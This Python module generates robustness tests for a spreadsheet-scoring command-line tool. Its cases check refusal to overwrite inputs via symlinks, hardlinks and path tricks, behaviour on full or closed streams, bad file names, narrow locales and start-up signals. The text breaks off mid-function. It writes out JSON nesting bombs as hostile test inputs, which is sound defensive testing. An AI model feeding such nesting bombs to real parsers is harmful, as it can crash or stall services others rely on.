"""Generated cases of the output side: what a run writes, where, and how it ends.

Families (``cases(folder, big=False)`` builds every case's files and returns the cases;
``output_runs`` runs them through the installed ``smartserang`` and says what is wrong):

- ``guard``: every writing option of every command (``score -o``, a folder's ``score -o``,
  ``diff -o``, ``check --summary``, ``baseline -o``, ``import -o``, ``import --in-place``'s
  backup, ``template -o``, and stdout appended to a file) aimed at each of that run's
  inputs (workbooks, a folder's workbooks, the set and the base it ``extends``, the
  baseline, the JSON result, the CSV) under every name: the same path, ``./x``,
  ``../dir/x``, absolute, ``a//x`` and ``a/../a/x``, a symbolic link, a hard link, a
  linked folder, another letter case where the disk ignores case; and at a folder, a
  device, a workbook's name inside an input folder. Each is refused (exit 2,
  ``[output.input]`` or ``[output.folder]``); a report's name inside an input folder is
  written.
- ``full``, ``fsize``, ``gone``, ``closed``, ``stderr``: stdout on a full disk, outputs past
  the file-size limit, a reader of stdout that has gone, a closed stdout, a full stderr.
- ``names``: file names that are not UTF-8 and names of 250 and 300 bytes, for every
  input and output.
- ``locale``: ISO-8859-1 (a real locale when ``localedef`` can make one) and ASCII
  terminals, through a pipe and a pseudo-terminal.
- ``json``: nesting bombs for ``diff``, ``check --baseline`` and ``baseline -o``.
- ``signal``: Ctrl-C and SIGTERM while the program is still importing its modules.
- ``written``: ``import`` into workbooks holding DDE, OLE and UNC external links,
  formulas in defined names, drop-down and conditional-format formulas that fetch, and
  unusual relationships; the written workbook must reach nothing outside itself.
- ``escapes``: terminal escape sequences, C1 controls and bidirectional overrides in
  cells, sets, CSV files and file names never reach stdout or stderr raw.

Every case hashes the files it names as inputs before and after its run (no input may
change: the README's promise) and looks for temporary or lock files left beside them.
"""

from __future__ import annotations

import io
import os
import re
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
EXAMPLE = ROOT / "examples" / "kota-sukamaju.xlsx"
SMARTSERANG = str(Path(sys.executable).parent / "smartserang")
TIME_LIMIT = 60.0

MINI = """\
id: mini
version: "1"
title: Mini
weighting: absolute
total_weight: 100
unassessed: minimum
scales:
  proses: {levels: {1: Satu, 2: Dua, 3: Tiga, 4: Empat, 5: Lima}}
bands:
  - {min: 3.5, label: Tinggi}
  - {min: 2.6, label: Sedang}
  - {label: Rendah}
groups:
  - id: G1
    name: Satu
    weight: 40
    scale: proses
    indicators:
      - {id: "1", name: A, weight: 10}
      - {id: "2", name: B, weight: 30}
  - id: G2
    name: Dua
    weight: 60
    scale: proses
    indicators:
      - {id: "3", name: C, weight: 60}
"""
CITY = (
    'extends: ./base.yaml\nid: kota\nversion: "1"\ntitle: Kota\ntailoring:\n  weights: {G1: 40}\n'
)
CSV = "nama,kecamatan,jenis\nTaman Kota,Serang,wifi publik\nAlun-alun,Serang,wifi publik\n"
MAP = ("--sheet", "Fasilitas", "--map", "Nama=nama,Kecamatan=kecamatan,Jenis=jenis")

Check = Callable[["Outcome"], list[str]]


@dataclass(frozen=True)
class OutputCase:
    """One run of ``smartserang`` and what it must do."""

    name: str
    family: str
    args: tuple[str, ...]
    """The arguments after ``smartserang`` (a name that is not UTF-8 holds surrogates)."""
    cwd: Path
    inputs: tuple[str, ...]
    """Files (relative to ``cwd``) that must keep their bytes, size and time."""
    expect: frozenset[int]
    """The exit codes allowed."""
    codes: tuple[str, ...] = ()
    """Problem codes stderr must show (``output.input``)."""
    stdout: str = "pipe"
    """pipe, full (/dev/full), gone (a pipe whose reader has gone), closed, pty, or
    ``append:PATH`` (stdout appended to that file)."""
    env: tuple[tuple[str, str], ...] = ()
    stderr: str = "pipe"
    """pipe or full."""
    file_size: int | None = None
    """The file-size limit of the run (RLIMIT_FSIZE), in bytes."""
    driver: str | None = None
    """Python code run instead of the console script (argv: the case's arguments)."""
    check: Check | None = field(default=None, compare=False)
    """More to judge, given the run's outcome."""


@dataclass(frozen=True)
class Outcome:
    """What a run did."""

    case: OutputCase
    code: int
    stdout: bytes
    stderr: bytes
    seconds: float

    @property
    def errors(self) -> str:
        return self.stderr.decode("utf-8", "replace")


# ---------------------------------------------------------------- the world of inputs


def _smartserang(*args: str, cwd: Path) -> None:
    run = subprocess.run([SMARTSERANG, *args], cwd=cwd, capture_output=True, check=False)
    assert run.returncode == 0, run.stderr.decode("utf-8", "replace")[-2000:]


def _world(folder: Path) -> Path:
    """The inputs every guard case starts from: two workbooks in ``books``, a set that
    extends a base, a CSV, a baseline and a ``score`` JSON result."""
    world = folder / "world"
    if (world / "result.json").exists():
        return world
    books = world / "books"
    books.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(EXAMPLE, books / "kota.xlsx")
    shutil.copyfile(EXAMPLE, books / "lama.xlsx")
    (world / "base.yaml").write_text(MINI, encoding="utf-8")
    (world / "city.yaml").write_text(CITY, encoding="utf-8")
    (world / "wifi.csv").write_text(CSV, encoding="utf-8")
    _smartserang(
        "baseline",
        "books/kota.xlsx",
        "--set",
        "city.yaml",
        "-o",
        "baseline.json",
        "--date",
        "2025-01-01",
        cwd=world,
    )
    _smartserang(
        "score",
        "books/lama.xlsx",
        "--set",
        "city.yaml",
        "-f",
        "json",
        "-o",
        "result.json",
        cwd=world,
    )
    return world


def _copy_world(world: Path, into: Path) -> Path:
    """A case's own copy of the world, with links to every input in ``links``."""
    if into.exists():
        shutil.rmtree(into)
    shutil.copytree(world, into, symlinks=True)
    links = into / "links"
    links.mkdir()
    for path in sorted(into.rglob("*")):
        if path.is_file() and links not in path.parents:
            flat = str(path.relative_to(into)).replace("/", "_")
            (links / f"{flat}-sym").symlink_to(Path("..") / path.relative_to(into))
            os.link(path, links / f"{flat}-hard")
    (links / "dir").symlink_to("..")
    os.mkfifo(links / "pipe")
    return into


def _case_insensitive(folder: Path) -> bool:
    probe = folder / "Case-Probe"
    probe.write_text("", encoding="utf-8")
    try:
        return (folder / "case-probe").exists()
    finally:
        probe.unlink()


# ---------------------------------------------------------------- guard


WRITERS: dict[str, tuple[tuple[str, ...], tuple[str, ...], str]] = {
    "score": (
        ("score", "books/kota.xlsx", "--set", "city.yaml", "-f", "json", "-o", "{T}"),
        ("books/kota.xlsx", "city.yaml", "base.yaml"),
        "--output",
    ),
    "score-folder": (
        ("score", "books", "--set", "city.yaml", "-f", "html", "-o", "{T}"),
        ("books/kota.xlsx", "books/lama.xlsx", "city.yaml", "base.yaml"),
        "--output",
    ),
    "diff": (
        ("diff", "result.json", "books/kota.xlsx", "--set", "city.yaml", "-f", "md", "-o", "{T}"),
        ("result.json", "books/kota.xlsx", "city.yaml", "base.yaml"),
        "--output",
    ),
    "check-summary": (
        (
            "check",
            "books/kota.xlsx",
            "--set",
            "city.yaml",
            "--baseline",
            "baseline.json",
            "--summary",
            "{T}",
        ),
        ("books/kota.xlsx", "city.yaml", "base.yaml", "baseline.json"),
        "--summary",
    ),
    "baseline": (
        (
            "baseline",
            "books/kota.xlsx",
            "--set",
            "city.yaml",
            "--reason",
            "probe",
            "--date",
            "2025-01-02",
            "-o",
            "{T}",
        ),
        ("books/kota.xlsx", "city.yaml", "base.yaml"),
        "--output",
    ),
    "import": (
        ("import", "wifi.csv", "--into", "books/kota.xlsx", *MAP, "-o", "{T}"),
        ("wifi.csv", "books/kota.xlsx"),
        "--output",
    ),
    "template": (
        ("template", "--set", "city.yaml", "-o", "{T}"),
        ("city.yaml", "base.yaml"),
        "--output",
    ),
}
"""Each writing option: its arguments ({T}: the output), its inputs, the option named."""

STDOUT_WRITERS: dict[str, tuple[tuple[str, ...], tuple[str, ...]]] = {
    "score": (
        ("score", "books/kota.xlsx", "--set", "city.yaml", "-f", "json"),
        ("books/kota.xlsx", "city.yaml", "base.yaml"),
    ),
    "diff": (
        ("diff", "result.json", "books/kota.xlsx", "--set", "city.yaml"),
        ("result.json", "books/kota.xlsx", "city.yaml", "base.yaml"),
    ),
    "check": (
        (
            "check",
            "books/kota.xlsx",
            "--set",
            "city.yaml",
            "--baseline",
            "baseline.json",
            "-f",
            "json",
        ),
        ("books/kota.xlsx", "city.yaml", "base.yaml", "baseline.json"),
    ),
    "template": (("template", "--set", "city.yaml"), ("city.yaml", "base.yaml")),
}
"""Commands writing their result to stdout, and their inputs."""

KINDS = ("same", "dot", "parent", "absolute", "doubled", "symlink", "hardlink", "linked-folder")
"""The ways a case names an input as its output."""


def _named(kind: str, target: str, case_dir: Path) -> str | None:
    """``target`` (relative to ``case_dir``) named the ``kind`` way."""
    flat = target.replace("/", "_")
    folder, _, leaf = target.rpartition("/")
    return {
        "same": target,
        "dot": f"./{target}",
        "parent": f"../{case_dir.name}/{target}",
        "absolute": str(case_dir / target),
        "doubled": f"{folder}/../{folder}//{leaf}" if folder else f"links/..//{leaf}",
        "symlink": f"links/{flat}-sym",
        "hardlink": f"links/{flat}-hard",
        "linked-folder": f"links/dir/{target}",
        "case": target.upper(),
    }.get(kind)


def _refused(option: str, code: str = "output.input") -> Check:
    def check(outcome: Outcome) -> list[str]:
        lines = [line for line in outcome.errors.splitlines() if f"[{code}]" in line]
        if not any(option in line for line in lines):
            return [f"no [{code}] line naming {option}"]
        return []

    return check


def _guard_cases(folder: Path, world: Path, big: bool) -> Iterator[OutputCase]:
    kinds = list(KINDS)
    if _case_insensitive(folder):
        kinds.append("case")
    number = 0
    for writer, (template, inputs, option) in WRITERS.items():
        for target in inputs:
            # all kinds with --big; else every kind for the first input, three for others
            chosen = kinds if big or target == inputs[0] else kinds[number % 3 :: 3]
            number += 1
            for kind in chosen:
                name = f"guard-{writer}-{target.replace('/', '_')}-{kind}"
                case_dir = _copy_world(world, folder / name)
                aimed = _named(kind, target, case_dir)
                assert aimed is not None
                args = tuple(a.replace("{T}", aimed) for a in template)
                yield OutputCase(
                    name,
                    "guard",
                    args,
                    case_dir,
                    inputs,
                    frozenset({2}),
                    ("output.input",),
                    check=_refused(option),
                )
        yield from _guard_places(folder, world, writer, template, inputs, option)
    yield from _guard_stdout(folder, world, big)
    yield from _guard_backup(folder, world)


def _guard_places(
    folder: Path,
    world: Path,
    writer: str,
    template: tuple[str, ...],
    inputs: tuple[str, ...],
    option: str,
) -> Iterator[OutputCase]:
    """A folder, a device, and names inside the input folder ``books``."""
    places: list[tuple[str, str, frozenset[int], tuple[str, ...]]] = [
        ("folder", "books", frozenset({2}), ("output.folder",)),
        ("linked-folder-itself", "links/dir", frozenset({2}), ("output.folder",)),
    ]
    if writer != "check-summary":  # appended to, a pipe would wait for a reader
        # A named pipe of the case's own, never a real device: were the guard broken, a
        # run as root would replace /dev/null with a file.
        places.append(("pipe", "links/pipe", frozenset({2}), ("output.folder",)))
    if writer == "score-folder":
        places += [
            ("workbook-name-inside", "books/rekap.xlsx", frozenset({2}), ("output.input",)),
            ("ods-name-inside", "books/REKAP.ODS", frozenset({2}), ("output.input",)),
            ("report-inside", "books/rekap.html", frozenset({0}), ()),
            ("hidden-workbook-inside", "books/.rekap.xlsx", frozenset({0}), ()),
        ]
    for place, aimed, expect, codes in places:
        name = f"guard-{writer}-{place}"
        case_dir = _copy_world(world, folder / name)
        args = tuple(a.replace("{T}", aimed) for a in template)
        check = _refused(option, codes[0]) if codes else _written(aimed)
        yield OutputCase(name, "guard", args, case_dir, inputs, expect, codes, check=check)


def _written(path: str) -> Check:
    def check(outcome: Outcome) -> list[str]:
        target = outcome.case.cwd / path
        return [] if target.is_file() and target.stat().st_size > 0 else [f"{path} not written"]

    return check


def _guard_stdout(folder: Path, world: Path, big: bool) -> Iterator[OutputCase]:
    """stdout appended to one of the run's inputs (``>> kota.xlsx``)."""
    for command, (args, inputs) in STDOUT_WRITERS.items():
        for target in inputs if big else inputs[:2]:
            name = f"guard-stdout-{command}-{target.replace('/', '_')}"
            case_dir = _copy_world(world, folder / name)
            yield OutputCase(
                name,
                "guard",
                args,
                case_dir,
                inputs,
                frozenset({2}),
                ("output.input",),
                stdout=f"append:{target}",
                check=_refused("stdout"),
            )


def _guard_backup(folder: Path, world: Path) -> Iterator[OutputCase]:
    """``import --in-place``: its backup ``<workbook>.bak`` named as the CSV input."""
    for kind in ("symlink", "hardlink", "same"):
        name = f"guard-backup-{kind}"
        case_dir = _copy_world(world, folder / name)
        backup = case_dir / "books" / "kota.xlsx.bak"
        csv = "wifi.csv"
        if kind == "symlink":
            backup.symlink_to(Path("..") / "wifi.csv")
        elif kind == "hardlink":
            os.link(case_dir / "wifi.csv", backup)
        else:  # the CSV is itself named as the backup would be
            shutil.move(case_dir / "wifi.csv", backup)
            csv = "books/kota.xlsx.bak"
        args = ("import", csv, "--into", "books/kota.xlsx", *MAP, "--in-place")
        yield OutputCase(
            name,
            "guard",
            args,
            case_dir,
            (csv, "books/kota.xlsx"),
            frozenset({2}),
            ("output.input",),
            check=_refused("--in-place"),
        )


# ---------------------------------------------------------------- ordinary failures


def _plain_world(folder: Path, world: Path, name: str) -> Path:
    return _copy_world(world, folder / name)


STDOUT_COMMANDS: dict[str, tuple[str, ...]] = {
    "sets": ("sets",),
    "schema": ("schema",),
    "version": ("--version",),
    "help": ("--help",),
    "score-help": ("score", "--help"),
    "score-text": ("score", "books/kota.xlsx"),
    "score-json": ("score", "books/kota.xlsx", "-f", "json"),
    "score-md": ("score", "books/kota.xlsx", "-f", "md"),
    "score-html": ("score", "books/kota.xlsx", "-f", "html"),
    "score-docx": ("score", "books/kota.xlsx", "-f", "docx"),
    "rollup-text": ("score", "books"),
    "rollup-html": ("score", "books", "-f", "html"),
    "check-json": ("check", "books/kota.xlsx", "-f", "json"),
    "diff-text": ("diff", "books/lama.xlsx", "books/kota.xlsx"),
    "diff-json": ("diff", "books/lama.xlsx", "books/kota.xlsx", "-f", "json"),
    "template": ("template",),
}
"""Every command and format that writes to stdout."""

FILE_WRITERS: dict[str, tuple[str, ...]] = {
    "score-html": ("score", "books/kota.xlsx", "-f", "html", "-o", "out/r.html"),
    "score-docx": ("score", "books/kota.xlsx", "-f", "docx", "-o", "out/r.docx"),
    "diff-md": ("diff", "books/lama.xlsx", "books/kota.xlsx", "-f", "md", "-o", "out/d.md"),
    "check-summary": ("check", "books/kota.xlsx", "--summary", "out/s.md"),
    "baseline": ("baseline", "books/kota.xlsx", "-o", "out/b.json", "--reason", "x"),
    "import": ("import", "wifi.csv", "--into", "books/kota.xlsx", *MAP, "-o", "out/i.xlsx"),
    "import-in-place": ("import", "wifi.csv", "--into", "out/w.xlsx", *MAP, "--in-place"),
    "template": ("template", "-o", "out/t.xlsx"),
}
"""Every option that writes a file (under ``out``)."""

WORLD_INPUTS = ("books/kota.xlsx", "books/lama.xlsx", "wifi.csv", "baseline.json", "city.yaml")


def _stdout_line(outcome: Outcome) -> list[str]:
    lines = outcome.errors.splitlines()
    if not any(line.startswith("stdout: ") and line.endswith("[output.write]") for line in lines):
        return ["no 'stdout: … [output.write]' line"]
    return []


def _quiet(outcome: Outcome) -> list[str]:
    signs = ("Traceback", "Exception ignored", "BrokenPipeError", "Broken pipe")
    return [f"stderr shows {sign!r}" for sign in signs if sign in outcome.errors]


def _ordinary_cases(folder: Path, world: Path) -> Iterator[OutputCase]:
    def case(
        name: str,
        family: str,
        args: tuple[str, ...],
        expect: int,
        prepare: Callable[[Path], None] | None = None,
        **more: Any,
    ) -> OutputCase:
        """A run in a copy of the world of its own (``prepare``d), keeping its inputs."""
        case_dir = _plain_world(folder, world, name)
        if prepare is not None:
            prepare(case_dir)
        return OutputCase(name, family, args, case_dir, WORLD_INPUTS, frozenset({expect}), **more)

    written = ("output.write",)
    for command, args in STDOUT_COMMANDS.items():
        yield case(f"full-{command}", "full", args, 2, codes=written, stdout="full",
                   check=_stdout_line)  # fmt: skip
        yield case(f"gone-{command}", "gone", args, 141, stdout="gone", check=_quiet)
    for command in ("sets", "score-json", "template", "diff-text"):
        args = STDOUT_COMMANDS[command]
        yield case(f"closed-{command}", "closed", args, 2, codes=written, stdout="closed",
                   check=_stdout_line)  # fmt: skip
        yield case(f"stderr-full-{command}", "stderr", args, 0, stderr="full")
    for command, args in FILE_WRITERS.items():

        def prepare(case_dir: Path, command: str = command) -> None:
            (case_dir / "out").mkdir()
            if command == "import-in-place":
                shutil.copyfile(EXAMPLE, case_dir / "out" / "w.xlsx")

        yield case(f"fsize-{command}", "fsize", args, 2, codes=written, file_size=100,
                   check=_nothing_new_in("out"), prepare=prepare)  # fmt: skip


def _nothing_new_in(folder: str) -> Check:
    """Nothing but what was there before the run is left in ``folder``."""

    def check(outcome: Outcome) -> list[str]:
        names = sorted(p.name for p in (outcome.case.cwd / folder).iterdir())
        expected = ["w.xlsx"] if "--in-place" in outcome.case.args else []
        return [] if names == expected else [f"left in {folder}: {names}"]

    return check


# ---------------------------------------------------------------- names


BAD = os.fsdecode(b"bad\xff\xfe-nama")
"""A name that is not UTF-8 (its bytes as surrogates)."""


def _escaped_name(needle: str, stream: str = "any") -> Check:
    """The output shows ``needle`` (with ``\\xff``-style escapes, their backslashes
    doubled in JSON and Markdown) and is valid UTF-8."""

    def check(outcome: Outcome) -> list[str]:
        found = []
        for label, data in (("stdout", outcome.stdout), ("stderr", outcome.stderr)):
            try:
                data.decode("utf-8")
            except UnicodeDecodeError:
                found.append(f"{label} is not UTF-8")
        texts = {"stdout": outcome.stdout, "stderr": outcome.stderr}
        haystack = b"".join(texts.values()) if stream == "any" else texts[stream]
        doubled = needle.replace("\\", "\\\\")
        if needle.encode() not in haystack and doubled.encode() not in haystack:
            found.append(f"{needle!r} not shown")
        return found

    return check


def _file_holds(path: str, needle: str) -> Check:
    def check(outcome: Outcome) -> list[str]:
        target = outcome.case.cwd / path
        if not target.exists():
            return [f"{path} not written"]
        return [] if needle.encode() in target.read_bytes() else [f"{needle!r} not in {path}"]

    return check


def _name_cases(folder: Path, world: Path) -> Iterator[OutputCase]:
    case_dir = _plain_world(folder, world, "names")
    book, sets, csv = f"{BAD}.xlsx", f"{BAD}.yaml", f"{BAD}.csv"
    shutil.copyfile(EXAMPLE, case_dir / book)
    (case_dir / sets).write_text(MINI, encoding="utf-8")
    (case_dir / csv).write_text(CSV, encoding="utf-8")
    folder_bad = case_dir / f"rekap-{BAD}"
    folder_bad.mkdir()
    shutil.copyfile(EXAMPLE, folder_bad / f"{BAD}.xlsx")
    shutil.copyfile(EXAMPLE, folder_bad / "kota.xlsx")
    shown = r"bad\xff\xfe-nama"
    inputs = (book, sets, csv)
    runs: list[tuple[str, tuple[str, ...], frozenset[int], Check]] = [
        (
            "score-json",
            ("score", book, "-f", "json"),
            frozenset({0}),
            _escaped_name(shown, "stdout"),
        ),
        ("score-text", ("score", book), frozenset({0}), _escaped_name(shown, "stderr")),
        (
            "score-set-json",
            ("score", "books/kota.xlsx", "--set", sets, "-f", "json"),
            frozenset({0}),
            _escaped_name(shown, "stdout"),
        ),
        (
            "score-md",
            ("score", book, "--set", sets, "-f", "md"),
            frozenset({0}),
            _escaped_name(shown, "stdout"),
        ),
        (
            "score-html-o",
            ("score", book, "-f", "html", "-o", f"{BAD}.html"),
            frozenset({0}),
            _file_holds(f"{BAD}.html", "bad\\xff\\xfe-nama"),
        ),
        (
            "score-docx-o",
            ("score", book, "-f", "docx", "-o", f"{BAD}.docx"),
            frozenset({0}),
            _escaped_name(shown, "stderr"),
        ),
        (
            "rollup",
            ("score", folder_bad.name, "-f", "json"),
            frozenset({0}),
            _escaped_name(shown, "stdout"),
        ),
        (
            "check-summary",
            ("check", book, "--summary", f"{BAD}.md"),
            frozenset({0}),
            _file_holds(f"{BAD}.md", "bad\\xff\\xfe-nama"),
        ),
        (
            "check-json",
            ("check", book, "--set", sets, "-f", "json"),
            frozenset({0}),
            _escaped_name(shown, "stdout"),
        ),
        (
            "baseline",
            ("baseline", book, "-o", f"{BAD}.json"),
            frozenset({0}),
            _file_holds(f"{BAD}.json", "bad\\\\xff\\\\xfe-nama"),
        ),
        ("diff", ("diff", book, "books/kota.xlsx"), frozenset({0}), _escaped_name(shown, "stdout")),
        (
            "diff-json",
            ("diff", "books/kota.xlsx", book, "-f", "json"),
            frozenset({0}),
            _escaped_name(shown, "stdout"),
        ),
        (
            "import",
            ("import", csv, "--into", book, *MAP, "-o", f"{BAD}-baru.xlsx"),
            frozenset({0}),
            _escaped_name(shown, "stderr"),
        ),
        (
            "template",
            ("template", "--set", sets, "-o", f"{BAD}-kosong.xlsx"),
            frozenset({0}),
            _escaped_name(shown, "stderr"),
        ),
    ]
    for name, args, expect, check in runs:
        yield OutputCase(f"names-utf8-{name}", "names", args, case_dir, inputs, expect, check=check)
    yield from _long_name_cases(folder, world)


def _long_name_cases(folder: Path, world: Path) -> Iterator[OutputCase]:
    case_dir = _plain_world(folder, world, "long-names")
    fits = "p" * 245  # with ".xlsx", 250 bytes: a valid name
    shutil.copyfile(EXAMPLE, case_dir / f"{fits}.xlsx")
    (case_dir / f"{fits}.yaml").write_text(MINI, encoding="utf-8")
    long = "a" * 300
    inputs = (f"{fits}.xlsx", "books/kota.xlsx", "wifi.csv")
    too_long = [
        ("score", ("score", f"{long}.xlsx")),
        ("score-noext", ("score", long)),
        ("score-set", ("score", "books/kota.xlsx", "--set", f"{long}.yaml")),
        ("score-set-noext", ("score", "books/kota.xlsx", "--set", long)),
        ("score-o", ("score", "books/kota.xlsx", "-o", f"{long}.json")),
        ("check", ("check", f"{long}.xlsx")),
        ("check-baseline", ("check", "books/kota.xlsx", "--baseline", f"{long}.json")),
        ("check-summary", ("check", "books/kota.xlsx", "--summary", f"{long}.md")),
        ("baseline-o", ("baseline", "books/kota.xlsx", "-o", f"{long}.json")),
        ("diff", ("diff", f"{long}.xlsx", "books/kota.xlsx")),
        ("diff-json", ("diff", f"{long}.json", "books/kota.xlsx")),
        ("import-into", ("import", "wifi.csv", "--into", f"{long}.xlsx", *MAP, "-o", "x.xlsx")),
        (
            "import-csv",
            ("import", f"{long}.csv", "--into", "books/kota.xlsx", *MAP, "-o", "x.xlsx"),
        ),
        (
            "import-o",
            ("import", "wifi.csv", "--into", "books/kota.xlsx", *MAP, "-o", f"{long}.xlsx"),
        ),
        ("template-o", ("template", "-o", f"{long}.xlsx")),
        ("template-set", ("template", "--set", f"{long}.yaml", "-o", "t.xlsx")),
        ("in-folder", ("score", f"{long}/kota.xlsx")),
    ]
    for name, args in too_long:
        yield OutputCase(f"names-300-{name}", "names", args, case_dir, inputs, frozenset({2}))
    fitting = [
        ("score", ("score", f"{fits}.xlsx", "--set", f"{fits}.yaml", "-f", "json")),
        ("score-o", ("score", "books/kota.xlsx", "-f", "json", "-o", f"{fits}.json")),
        ("baseline-o", ("baseline", "books/kota.xlsx", "-o", f"{fits}.b.json")),
        (
            "import-o",
            ("import", "wifi.csv", "--into", "books/kota.xlsx", *MAP, "-o", f"{fits[:-3]}i.xlsx"),
        ),
        ("template-o", ("template", "-o", f"{fits[:-3]}t.xlsx")),
        ("check-summary", ("check", "books/kota.xlsx", "--summary", f"{fits}.md")),
    ]
    for name, args in fitting:
        yield OutputCase(f"names-250-{name}", "names", args, case_dir, inputs, frozenset({0}))


# ---------------------------------------------------------------- locales


LOCALE_COMMANDS: dict[str, tuple[str, ...]] = {
    "help": ("--help",),
    "import-help": ("import", "--help"),
    "sets": ("sets",),
    "score-id": ("score", "books/kota.xlsx"),
    "score-en": ("score", "books/kota.xlsx", "--lang", "en"),
    "rollup": ("score", "books"),
    "diff": ("diff", "books/lama.xlsx", "books/kota.xlsx"),
    "check": ("check", "books/kota.xlsx", "--min-index", "4"),
    "import": ("import", "wifi.csv", "--into", "books/kota.xlsx", *MAP, "-o", "baru.xlsx"),
}
"""Commands whose text holds Indonesian marks (·, –, ←) and table lines."""


def _locales(folder: Path) -> list[tuple[str, tuple[tuple[str, str], ...]]]:
    """The narrow encodings to run in: ASCII and ISO-8859-1 by PYTHONIOENCODING, and a
    real ISO-8859-1 locale when ``localedef`` can make one here."""
    found: list[tuple[str, tuple[tuple[str, str], ...]]] = [
        ("ascii", (("PYTHONIOENCODING", "ascii"),)),
        ("latin1", (("PYTHONIOENCODING", "latin-1"),)),
        ("c-locale", (("LC_ALL", "C"), ("LANG", "C"))),
    ]
    localedef = shutil.which("localedef")
    target = folder / "locales" / "id_ID.ISO-8859-1"
    if localedef and not target.exists():
        target.parent.mkdir(parents=True, exist_ok=True)
        subprocess.run(
            [localedef, "-i", "id_ID", "-f", "ISO-8859-1", str(target)],
            capture_output=True,
            check=False,
        )
    if target.exists():
        env = (("LOCPATH", str(target.parent)), ("LC_ALL", "id_ID.ISO-8859-1"))
        found.append(("iso8859-1-locale", env))
    return found


def _encoded_in(encoding: str | None) -> Check:
    def check(outcome: Outcome) -> list[str]:
        if encoding is None:
            return []
        try:
            outcome.stdout.decode(encoding)
        except UnicodeDecodeError as error:
            return [f"stdout is not {encoding}: {error}"]
        return []

    return check


def _locale_cases(folder: Path, world: Path) -> Iterator[OutputCase]:
    for label, env in _locales(folder):
        case_dir = _plain_world(folder, world, f"locale-{label}")
        narrow = {"ascii": "ascii", "latin1": "latin-1", "iso8859-1-locale": "latin-1"}.get(label)
        for command, args in LOCALE_COMMANDS.items():
            expect = frozenset({1}) if command == "check" else frozenset({0})
            # help is the command framework's: it writes UTF-8 to an ASCII stream
            encoding = None if command.endswith("help") else narrow
            yield OutputCase(
                f"locale-{label}-{command}",
                "locale",
                args,
                case_dir,
                WORLD_INPUTS,
                expect,
                env=env,
                check=_encoded_in(encoding),
            )
        for command in ("score-id", "diff", "rollup"):
            yield OutputCase(
                f"locale-{label}-{command}-pty",
                "locale",
                LOCALE_COMMANDS[command],
                case_dir,
                WORLD_INPUTS,
                frozenset({0}),
                stdout="pty",
                env=env,
            )


# ---------------------------------------------------------------- JSON bombs


def _json_documents() -> dict[str, str]:
    """Nesting bombs and deep-but-parsable documents shaped like what each reader reads."""
    head = (
        '{"format":"smartserang-baseline","format_version":"1.1","results":[{"indicator_set":'
        '{"id":"kota"},"basis":"verified","index_rounded":2.5,"groups":'
    )
    return {
        "list-100k": "[" * 100_000 + "]" * 100_000,
        "object-5k": '{"a":' * 5_000 + "1" + "}" * 5_000,
        "list-900": "[" * 900 + "]" * 900,
        "groups-400": head
        + '[{"id":"g","score_rounded":1,"groups":' * 400
        + "[]"
        + "}]" * 400
        + '}],"history":[]}',
        "history-900": head + '[]}],"history":[{"a":' + '{"b":' * 900 + "1" + "}" * 900 + "}]}",
        "result-900": '{"schema_version":"1.3","results":[' + "[" * 900 + "]" * 900 + "]}",
        "exactly-65": '{"a":' * 65 + "1" + "}" * 65,
    }


def _json_cases(folder: Path, world: Path) -> Iterator[OutputCase]:
    case_dir = _plain_world(folder, world, "json")
    for name, text in _json_documents().items():
        path = f"{name}.json"
        (case_dir / path).write_text(text, encoding="utf-8")
        baseline = f"{name}.baseline.json"
        (case_dir / baseline).write_text(text, encoding="utf-8")
        runs = [
            ("diff-old", ("diff", path, "books/kota.xlsx"), "diff.json", (path,)),
            ("diff-new", ("diff", "books/kota.xlsx", path), "diff.json", (path,)),
            (
                "check-baseline",
                ("check", "books/kota.xlsx", "--baseline", path),
                "baseline.json",
                (path,),
            ),
            (
                "baseline-o",
                ("baseline", "books/kota.xlsx", "-o", baseline, "--reason", "x"),
                "baseline.json",
                (baseline,),
            ),
        ]
        for label, args, code, inputs in runs:
            yield OutputCase(
                f"json-{name}-{label}",
                "json",
                args,
                case_dir,
                ("books/kota.xlsx", *inputs),
                frozenset({2}),
                (code,),
            )


# ---------------------------------------------------------------- signals at start-up


STARTUP_DRIVER = """
import importlib.abc, os, signal, sys
module, signame = sys.argv[1], sys.argv[2]

class Sender(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name == module:
            sys.meta_path.remove(self)
            os.kill(os.getpid(), getattr(signal, signame))
        return None

sys.meta_path.insert(0, Sender())
sys.argv = ["smartserang", *sys.argv[3:]]
from smartserang.cli import main
main()
"""
"""Runs ``smartserang ARGS`` as the console script does, sending itself a signal when
``module`` is first imported (argv: module, signal name, arguments)."""


def _closing_line(expected: str) -> Check:
    """stderr ends with ``expected`` (warnings of the workbook may come before)."""

    def check(outcome: Outcome) -> list[str]:
        lines = outcome.errors.strip().splitlines()
        return [] if lines and lines[-1] == expected else [f"stderr ends: {lines[-3:]}"]

    return check


def _signal_cases(folder: Path, world: Path) -> Iterator[OutputCase]:
    case_dir = _plain_world(folder, world, "signals")
    moments = [
        ("typer", ("score", "books/kota.xlsx", "-f", "json")),  # the CLI package's import
        ("smartserang.cli.score", ("--version",)),
        ("smartserang.cli.template", ("sets",)),
        ("jinja2", ("score", "books/kota.xlsx", "-f", "html")),  # inside a command
        ("python_calamine", ("score", "books/kota.xlsx")),
        ("openpyxl", ("template", "-o", "t.xlsx")),
    ]
    for module, args in moments:
        for signame, code, word in (("SIGINT", 130, "interrupted"), ("SIGTERM", 143, "terminated")):
            name = f"signal-{signame.lower()}-at-{module.replace('.', '-')}"
            yield OutputCase(
                name,
                "signal",
                (module, signame, *args, "--lang", "en"),
                case_dir,
                WORLD_INPUTS,
                frozenset({code}),
                driver=STARTUP_DRIVER,
                check=_closing_line(f"smartserang: {word}"),
            )


# ---------------------------------------------------------------- what import writes

_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
_LINK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def edited_package(
    changes: dict[str, Callable[[bytes], bytes] | bytes], source: Path = EXAMPLE
) -> bytes:
    """The example workbook's zip with parts changed (a function of the old bytes) or
    added (bytes)."""
    out = io.BytesIO()
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
